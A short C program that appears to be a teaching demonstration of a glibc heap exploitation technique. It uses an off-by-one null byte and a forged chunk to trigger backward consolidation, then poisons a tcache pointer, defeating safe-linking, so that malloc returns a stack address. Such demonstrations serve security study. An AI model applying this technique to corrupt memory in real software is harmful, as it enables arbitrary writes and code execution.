/* A byte too many clears the P bit: the free merges with a forged chunk below. */
#include <stdio.h>
#include <stdlib.h>
#include <stdint.h>
#include <malloc.h>
#include <assert.h>
int main(void) {
    setbuf(stdin, NULL);
    setbuf(stdout, NULL);
    intptr_t stack_var[0x10];
    intptr_t *target = NULL;
    for (int i = 0; i < 0x10; i++)
        if (((long)&stack_var[i] & 0xf) == 0) { target = &stack_var[i]; break; }
    assert(target != NULL);
    intptr_t *a = malloc(0x38);
    a[0] = 0;
    a[1] = 0x60;
    a[2] = (size_t)a;
    a[3] = (size_t)a;
    uint8_t *b = malloc(0x28);
    int real_b_size = malloc_usable_size(b);
    uint8_t *c = malloc(0xf8);
    uint64_t *c_size_ptr = (uint64_t *)(c - 8);
    b[real_b_size] = 0;
    size_t fake_size = (size_t)((c - sizeof(size_t) * 2) - (uint8_t *)a);
    *(size_t *)&b[real_b_size - sizeof(size_t)] = fake_size;
    a[1] = fake_size;
    intptr_t *x[7];
    for (int i = 0; i < 7; i++) x[i] = malloc(0xf8);
    for (int i = 0; i < 7; i++) free(x[i]);
    free(c);
    intptr_t *d = malloc(0x158);
    uint8_t *pad = malloc(0x28);
    free(pad);
    free(b);
    d[0x30 / 8] = (long)target ^ ((long)&d[0x30 / 8] >> 12);
    malloc(0x28);
    intptr_t *e = malloc(0x28);
    assert(e == target);
}
